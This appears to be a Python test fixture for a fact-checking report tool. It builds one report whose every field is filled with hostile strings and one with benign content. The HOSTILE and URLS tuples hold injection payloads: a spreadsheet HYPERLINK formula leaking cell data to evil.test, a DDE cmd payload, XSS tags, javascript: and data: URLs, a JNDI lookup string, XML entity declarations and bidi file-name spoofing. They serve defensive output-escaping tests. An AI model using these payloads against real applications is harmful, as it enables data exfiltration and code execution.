"""A report whose every word comes from somebody who means harm, and one whose words are ordinary."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import replace

from harness.model.place import Place
from harness.model.registry import (
    Article,
    Claim,
    EvidenceLink,
    LogEntry,
    Registry,
    Source,
    SourceType,
    Sourcing,
    Statement,
    TextQuote,
    Waiver,
    frozen_mapping,
)
from harness.model.verdict import EvidenceState, Finding, LinkResult, Report, Severity, Status, Verdict

HOSTILE = (
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "quiet;=1+1",
    "one\n=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    "&lt;b&gt; &#x3c;i>",
    "[click](javascript:alert(1))",
    "![x](http://evil.test/pixel.png)",
    "<http://evil.test/auto>",
    "http://evil.test/bare www.evil.test @mention #12 mail@evil.test",
    "| a | b |",
    "`code` *em* **strong** ~~gone~~ __x__",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "---",
    "[ref]: javascript:alert(1)",
    "pay\u202egnp.exe",
    "zero\u200bwidth\u2060\ufeff",
    "lat\u200din",
    "tag\U000e0041\U000e0042",
    "null\x00bell\x07esc\x1b[31mred\x7f\x85",
    "non\ufffe\uffff\ufdd0char",
    "line\u2028para\u2029",
    "half \ud800 surrogate",
    "]]> <!-- --> <![CDATA[x]]>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "${jndi:ldap://evil.test} {{7*7}} {% x %}",
    '","=1+1,"',
    "_x0041_ _x000D_",
    "a" * 40_000,
)

URLS = (
    "http://fine.test/path?a=1&b=(2)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://x",
    "data:text/html,<script>alert(1)</script>",
    'http://evil.test/">)<script>alert(1)</script>',
    "http://evil.test/\u202egnp",
    "http://evil.test/a b",
    "http://evil.test/\nx",
    "file:///etc/passwd",
    "http://",
    "http://exämple.test/київ",
)

_PLACE = Place(file="claims/x.yaml", line=3, column=1)


def hostile() -> Report:
    """One claim for each of `HOSTILE`, which stands in all of its words; addresses go round `URLS`."""
    text = "\n\n".join(HOSTILE)
    sources, claims, verdicts = {}, [], []
    at = 0
    for number, words in enumerate(HOSTILE):
        start = text.index(words, at)
        at = start + len(words)
        statement = Statement(quote=TextQuote(exact=words), start=start, end=at, line=1)
        source = Source(
            id=f"s{number}",
            type=SourceType.WEB,
            url=URLS[number % len(URLS)],
            publisher=words,
            published=words,
            place=_PLACE,
        )
        sources[source.id] = source
        claims.append(
            Claim(
                id=f"c{number}",
                article="x",
                statement=statement,
                claimant=words,
                evidence=(
                    EvidenceLink(
                        key=source.id, source=source.id, quote=TextQuote(exact=words), checker=words, place=_PLACE
                    ),
                ),
                waivers=(Waiver(code="FC204", why=words, by=words, until=words, place=_PLACE),),
                log=(LogEntry(on=words, by=words, kind="query", text=words, place=_PLACE),),
                place=_PLACE,
            )
        )
        finding = Finding(
            code="FC203",
            severity=Severity.ERROR,
            message=words,
            hint=words,
            claim=f"c{number}",
            source=source.id,
            before=words,
            after=words + " now",
            place=_PLACE,
        )
        link = LinkResult(
            claim=f"c{number}",
            link=source.id,
            source=source.id,
            state=EvidenceState.ALTERED,
            reason=words,
            before=words,
            after=words + " now",
            as_of="2026-11-24T10:00:00Z",
            snapshot="ab" * 32,
        )
        status = list(Status)[number % 4]
        verdicts.append(
            Verdict(claim=f"c{number}", status=status, reason=words, links=(link,), findings=(finding,), as_of=words)
        )
    article = Article(
        id="x",
        title=HOSTILE[10] + HOSTILE[26],
        file="x.md",
        language="en",
        text=text,
        claims_file="x.yaml",
        place=_PLACE,
    )
    registry = Registry(
        articles=frozen_mapping({"x": article}),
        sources=frozen_mapping(sources),
        measures=frozen_mapping({}),
        claims=tuple(claims),
    )
    return Report(
        registry=registry,
        verdicts=tuple(verdicts),
        findings=tuple(replace(v.findings[0], claim=None, source=None) for v in verdicts[:3]),
        judged_at="2026-11-25T08:00:00Z",
        tool_version="1",
    )


def ordinary(
    text: str,
    statements: Sequence[tuple[str, Status]],
    *,
    captions: Mapping[str, str] | None = None,
    judged_at: str = "2026-11-25T08:00:00Z",
) -> Report:
    """A report over ``text`` with one claim for each of ``statements``, each resting on one page and, where supported, one person;
    claim ids are c1, c2 …; a statement not in the text has no place in it, ``captions`` name the picture of those."""
    page = Source(
        id="page",
        type=SourceType.WEB,
        url="http://page.test/x",
        publisher="The Page",
        sourcing=Sourcing.PRIMARY,
        place=_PLACE,
    )
    person = Source(id="person", type=SourceType.PERSON, person="a person who knows", place=_PLACE)
    claims, verdicts = [], []
    for number, (words, status) in enumerate(statements, start=1):
        start = text.find(words)
        name = f"c{number}"
        links = [EvidenceLink(key="page", source="page", quote=TextQuote(exact=f"quote of {name}"), place=_PLACE)]
        results = [
            LinkResult(
                claim=name,
                link="page",
                source="page",
                state=EvidenceState.HOLDS if status is Status.SUPPORTED else EvidenceState.ALTERED,
                before=f"quote of {name}",
                after=f"quote of {name}" if status is Status.SUPPORTED else f"other words of {name}",
                as_of="2026-11-24T10:00:00Z",
                snapshot="cd" * 32,
            )
        ]
        if status is Status.SUPPORTED:
            links.append(
                EvidenceLink(
                    key="person",
                    source="person",
                    on="2026-11-01",
                    by="phone",
                    checker="mk",
                    answer="confirms",
                    place=_PLACE,
                )
            )
            results.append(LinkResult(claim=name, link="person", source="person", state=EvidenceState.ATTESTED))
        findings = ()
        if status in (Status.CHANGED, Status.CONTRADICTED):
            findings = (
                Finding(
                    code="FC203",
                    severity=Severity.ERROR,
                    message=f"{name} is altered",
                    hint="read it",
                    claim=name,
                    source="page",
                    before=f"quote of {name}",
                    after=f"other words of {name}",
                ),
            )
        claims.append(
            Claim(
                id=name,
                article="a",
                statement=Statement(
                    quote=TextQuote(exact=words),
                    caption_of=(captions or {}).get(name),
                    start=start,
                    end=start + len(words) if start >= 0 else -1,
                ),
                evidence=tuple(links),
                place=_PLACE,
            )
        )
        verdicts.append(
            Verdict(claim=name, status=status, reason=f"why {name}", links=tuple(results), findings=findings)
        )
    article = Article(
        id="a", title="An article", file="a.md", language="en", text=text, claims_file="a.yaml", place=_PLACE
    )
    return Report(
        registry=Registry(
            articles=frozen_mapping({"a": article}),
            sources=frozen_mapping({"page": page, "person": person}),
            measures=frozen_mapping({}),
            claims=tuple(claims),
        ),
        verdicts=tuple(verdicts),
        judged_at=judged_at,
        tool_version="1",
    )
